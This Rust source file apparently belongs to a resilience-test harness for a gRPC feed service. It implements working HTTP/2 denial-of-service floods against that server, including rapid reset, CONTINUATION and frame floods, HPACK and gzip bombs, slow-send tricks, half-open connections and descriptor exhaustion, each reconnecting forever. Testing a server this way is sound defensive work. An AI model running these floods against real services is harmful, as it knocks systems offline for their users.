//! The floods: what hostile clients send. Each attack is one connection, which is made again when the
//! server closes it.

use std::io;
use std::io::Write as _;
use std::net::{Ipv4Addr, SocketAddr};
use std::pin::Pin;
use std::time::Duration;

use flate2::Compression;
use flate2::write::GzEncoder;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpListener, TcpStream};
use tokio::task::JoinSet;
use tokio::time::sleep;
use whimbrel::api::v1::{GetThreadRequest, NewsFeedRequest, WatchFeedRequest};

use crate::raw::{
    CONTINUATION, DATA, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, Raw, SETTINGS,
    WINDOW_UPDATE, Windows, call_headers, frame, grpc_frame, header, put_length,
};
use crate::target::{AUTHOR, Attacked, READER, Serves};
use crate::{answers, handshakes, tokens};

pub(crate) const NEWS_FEED: &str = "/whimbrel.v1.FeedService/NewsFeed";
pub(crate) const WATCH_FEED: &str = "/whimbrel.v1.FeedService/WatchFeed";
pub(crate) const GET_THREAD: &str = "/whimbrel.v1.PostService/GetThread";

/// Frames that are sent with one system call.
const FRAMES_AT_ONCE: usize = 1_000;
/// Calls of one connection: as many as it may have.
pub(crate) const CALLS: usize = 1_000;
/// Before a closed connection is made again: as fast as others could do it, and no faster.
const AGAIN_AFTER: Duration = Duration::from_millis(5);

type Running = Pin<Box<dyn Future<Output = io::Result<()>> + Send>>;

/// A flood.
#[derive(Clone, Copy)]
pub(crate) struct Flood {
    pub(crate) name: &'static str,
    /// Connections of one run.
    pub(crate) connections: usize,
    /// The server that it is for.
    pub(crate) serves: Serves,
    attack: fn(Attacked) -> Running,
}

macro_rules! flood {
    ($name:literal, $connections:expr, $attack:expr) => {
        flood!($name, $connections, Serves::Anybody, |to: Attacked| $attack(to.address))
    };
    ($name:literal, $connections:expr, $serves:expr, $attack:expr) => {
        Flood {
            name: $name,
            connections: $connections,
            serves: $serves,
            attack: |to| Box::pin($attack(to)),
        }
    };
}

/// All of them.
pub(crate) const FLOODS: &[Flood] = &[
    flood!("none: the attackers compute", 2, |_| computing()),
    flood!("none: the attackers send to each other", 4, |_| sending()),
    flood!("rapid reset", 4, rapid_reset),
    flood!("CONTINUATION", 4, continuation),
    flood!("SETTINGS", 4, |to| frames(to, frame(SETTINGS, 0, 0, &[]))),
    flood!("PING", 4, |to| frames(to, frame(PING, 0, 0, &[0; 8]))),
    flood!("PRIORITY", 1, |to| frames(to, frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 0]))),
    flood!("unknown frames", 4, |to| frames(to, frame(0xbb, 0, 0, &[]))),
    flood!("WINDOW_UPDATE", 4, |to| frames(to, frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]))),
    flood!("HPACK bombs", 4, hpack_bomb),
    flood!("huge metadata", 4, huge_metadata),
    flood!("gzip bombs", 4, gzip_bomb),
    flood!("silent connections", 200, silent),
    flood!("zero windows", 4, |to| answers::not_taken(to, Windows::Closed)),
    flood!("answers that nobody takes", 8, |to| answers::not_taken(to, Windows::Open)),
    flood!("errors that nobody takes", 200, answers::errors_not_taken),
    flood!("one byte at a time", 4, one_byte_at_a_time),
    flood!("bodies that never come", 9, bodies_never_come),
    flood!("half bodies", 10, half_bodies),
    flood!("stream churn", 4, stream_churn),
    flood!("connection churn", 8, connection_churn),
    flood!("a thousand streams of one user", 1, thousand_streams),
    flood!("expensive reads", 4, expensive_reads),
    flood!("half-open connections", 500, half_open),
    flood!("descriptor exhaustion", 200, Serves::FewFiles, |to: Attacked| half_open(to.address)),
    flood!("half TLS handshakes", 3_000, Serves::Tls, handshakes::half),
    flood!("TLS handshakes, one byte at a time", 500, Serves::Tls, handshakes::byte_by_byte),
    flood!("TLS handshakes that are left", 16, Serves::Tls, handshakes::left),
    flood!("whole TLS handshakes", 16, Serves::Tls, handshakes::whole),
    flood!("TLS records of one byte", 16, Serves::Tls, handshakes::records_of_one_byte),
    flood!("tokens of unknown keys", 16, Serves::Tokens, tokens::of_unknown_keys),
    flood!("tokens with wrong signatures", 16, Serves::Tokens, tokens::with_wrong_signatures),
    flood!("calls without a token", 16, Serves::Tokens, tokens::none),
];

impl Flood {
    /// The flood of this name.
    pub(crate) fn named(name: &str) -> Self {
        *FLOODS.iter().find(|flood| flood.name == name).expect("a flood of this name")
    }

    /// Floods the server at `to`, for ever.
    pub(crate) async fn run(self, to: Attacked) {
        let mut attacks = JoinSet::new();
        for _ in 0..self.connections {
            let to = to.clone();
            attacks.spawn(async move {
                loop {
                    // However it ended, the attacker comes again.
                    let _ = (self.attack)(to.clone()).await;
                    sleep(AGAIN_AFTER).await;
                }
            });
        }
        attacks.join_all().await;
    }
}

/// Sends nothing. What callers notice of that is the machine's, and not the server's.
async fn computing() -> io::Result<()> {
    loop {
        for _ in 0..1_000 {
            std::hint::black_box(call_headers(NEWS_FEED));
        }
        tokio::task::yield_now().await;
    }
}

/// Sends as the floods do, and not to the server. What callers notice of that is the machine's, whose kernel
/// passes on what attackers send before any other work.
async fn sending() -> io::Result<()> {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).await?;
    let mut sender = TcpStream::connect(listener.local_addr()?).await?;
    let (mut receiver, _) = listener.accept().await?;
    let (sent, mut received) = (vec![0; 16 << 10], vec![0; 2 << 10]);
    let (mut answers, mut sender) = sender.split();
    let mut taken = vec![0; 2 << 10];
    let sends = async {
        loop {
            sender.write_all(&sent).await?;
        }
    };
    let receives = async {
        loop {
            // An answer to each, as small as most are.
            receiver.read_exact(&mut received).await?;
            receiver.write_all(&received[..100]).await?;
        }
    };
    let takes = async {
        loop {
            answers.read_exact(&mut taken).await?;
        }
    };
    tokio::select! { ended = sends => ended, ended = receives => ended, ended = takes => ended }
}

async fn frames(to: SocketAddr, one: Vec<u8>) -> io::Result<()> {
    // So that no WINDOW_UPDATE opens a window too far.
    let raw = Raw::connect(to, Windows::Closed).await?;
    raw.send_for_ever(&one.repeat(FRAMES_AT_ONCE)).await;
    Ok(())
}

async fn rapid_reset(to: SocketAddr) -> io::Result<()> {
    let mut raw = Raw::connect(to, Windows::Open).await?;
    loop {
        for _ in 0..100 {
            let stream = raw.add_call(NEWS_FEED, &[], 0);
            raw.add(&frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
        }
        raw.send().await?;
    }
}

async fn continuation(to: SocketAddr) -> io::Result<()> {
    let mut raw = Raw::connect(to, Windows::Open).await?;
    raw.add(&frame(HEADERS, 0, 1, &call_headers(NEWS_FEED)));
    raw.send().await?;
    raw.send_for_ever(&frame(CONTINUATION, 0, 1, &header("x", b"y")).repeat(FRAMES_AT_ONCE)).await;
    Ok(())
}

async fn hpack_bomb(to: SocketAddr) -> io::Result<()> {
    // One header that the table keeps, and a byte for each repetition.
    let mut kept = vec![0x40];
    put_length(&mut kept, 1);
    kept.push(b'x');
    put_length(&mut kept, 3_000);
    kept.extend([b'a'; 3_000]);
    kept.extend([0x80 | 62; 4_000]);
    calls(to, &kept).await
}

async fn huge_metadata(to: SocketAddr) -> io::Result<()> {
    let more: Vec<u8> = (0..15).flat_map(|at| header(&format!("x-{at}"), &[b'a'; 980])).collect();
    calls(to, &more).await
}

/// Calls with more headers, one after another, a hundred at once.
async fn calls(to: SocketAddr, more: &[u8]) -> io::Result<()> {
    let mut raw = Raw::connect(to, Windows::Open).await?;
    let message =
        grpc_frame(&NewsFeedRequest { user_id: "nobody".to_owned(), ..Default::default() });
    loop {
        let mut last = 0;
        for _ in 0..100 {
            last = raw.add_call(NEWS_FEED, more, 0);
            raw.add(&frame(DATA, END_STREAM, last, &message));
        }
        raw.send().await?;
        answered(&mut raw, last).await?;
    }
}

/// Waits for the end of a stream, however it ends.
pub(crate) async fn answered(raw: &mut Raw, stream: u32) -> io::Result<()> {
    let ended = raw.read_until(|kind, flags, of, _| {
        let ends = kind == RST_STREAM || matches!(kind, HEADERS | DATA) && flags & END_STREAM != 0;
        (of == stream && ends).then_some(())
    });
    ended.await.ok_or_else(|| io::ErrorKind::UnexpectedEof.into())
}

async fn gzip_bomb(to: SocketAddr) -> io::Result<()> {
    let mut gzip = GzEncoder::new(Vec::new(), Compression::best());
    gzip.write_all(&vec![0; 40 << 20])?;
    let bomb = gzip.finish()?;
    let length = u32::try_from(bomb.len()).expect("it is small").to_be_bytes();
    let message = [&[1], &length[..], &bomb].concat();
    let mut raw = Raw::connect(to, Windows::Open).await?;
    loop {
        let stream = raw.add_call(NEWS_FEED, &header("grpc-encoding", b"gzip"), 0);
        for part in message.chunks(16 << 10) {
            raw.add(&frame(DATA, 0, stream, part));
        }
        raw.add(&frame(DATA, END_STREAM, stream, &[]));
        raw.send().await?;
        answered(&mut raw, stream).await?;
    }
}

async fn silent(to: SocketAddr) -> io::Result<()> {
    let mut socket = TcpStream::connect(to).await?;
    socket.write_all(b"PRI * HTTP/2").await?;
    sleep(Duration::from_secs(3_600)).await;
    Ok(())
}

/// A client that begins, and is never heard of again: it answers no PING.
async fn half_open(to: SocketAddr) -> io::Result<()> {
    let _raw = Raw::connect(to, Windows::Open).await?;
    sleep(Duration::from_secs(3_600)).await;
    Ok(())
}

async fn one_byte_at_a_time(to: SocketAddr) -> io::Result<()> {
    let mut raw = Raw::connect(to, Windows::Open).await?;
    let stream = raw.add_call(NEWS_FEED, &[], 0);
    raw.add(&frame(DATA, 0, stream, &[0, 0, 0, 0xff, 0xff]));
    raw.send().await?;
    raw.send_for_ever(&frame(DATA, 0, stream, &[0]).repeat(FRAMES_AT_ONCE)).await;
    Ok(())
}

/// Headers on all streams, and no message.
async fn bodies_never_come(to: SocketAddr) -> io::Result<()> {
    let mut raw = Raw::connect(to, Windows::Open).await?;
    let mut streams: Vec<_> = (0..CALLS).map(|_| raw.add_call(NEWS_FEED, &[], 0)).collect();
    raw.send().await?;
    // Whatever is refused is asked again.
    loop {
        let Some(stream) = streams.pop() else { return Ok(()) };
        answered(&mut raw, stream).await?;
        streams.insert(0, raw.add_call(NEWS_FEED, &[], 0));
        raw.send().await?;
    }
}

/// Most of a message on all streams, and never the rest.
async fn half_bodies(to: SocketAddr) -> io::Result<()> {
    let mut raw = Raw::connect(to, Windows::Open).await?;
    for _ in 0..CALLS {
        let stream = raw.add_call(NEWS_FEED, &[], 0);
        raw.add(&frame(DATA, 0, stream, &[0, 0, 0, 0xf0, 0]));
        for _ in 0..4 {
            raw.add(&frame(DATA, 0, stream, &[0; 15_000]));
        }
    }
    let bytes = raw.take_pending();
    raw.send_and_stay(&bytes).await;
    Ok(())
}

/// Streams that are opened and left at once.
async fn stream_churn(to: SocketAddr) -> io::Result<()> {
    let mut raw = Raw::connect(to, Windows::Open).await?;
    let request = WatchFeedRequest { user_id: "churner".to_owned(), ..Default::default() };
    loop {
        let stream = raw.add_whole_call(WATCH_FEED, &request);
        raw.send().await?;
        let begun = raw.read_until(|_, _, of, _| (of == stream).then_some(())).await;
        begun.ok_or(io::ErrorKind::UnexpectedEof)?;
        raw.add(&frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
    }
}

async fn connection_churn(to: SocketAddr) -> io::Result<()> {
    let mut raw = Raw::connect(to, Windows::Open).await?;
    let request = NewsFeedRequest { user_id: "churner".to_owned(), ..Default::default() };
    let stream = raw.add_whole_call(NEWS_FEED, &request);
    raw.send().await?;
    answered(&mut raw, stream).await
}

async fn thousand_streams(to: SocketAddr) -> io::Result<()> {
    let mut raw = Raw::connect(to, Windows::Open).await?;
    let request = WatchFeedRequest { user_id: READER.to_owned(), ..Default::default() };
    for _ in 0..CALLS {
        raw.add_whole_call(WATCH_FEED, &request);
    }
    raw.send().await?;
    raw.closed().await;
    Ok(())
}

/// Large pages, many at once, which are read.
async fn expensive_reads(to: SocketAddr) -> io::Result<()> {
    let mut raw = Raw::connect(to, Windows::Open).await?;
    let page = NewsFeedRequest { user_id: READER.to_owned(), page_size: 100, ..Default::default() };
    let thread = GetThreadRequest { user_id: AUTHOR.to_owned(), ..Default::default() };
    loop {
        let mut last = 0;
        for _ in 0..20 {
            raw.add_whole_call(GET_THREAD, &thread);
            last = raw.add_whole_call(NEWS_FEED, &page);
        }
        raw.send().await?;
        answered(&mut raw, last).await?;
    }
}
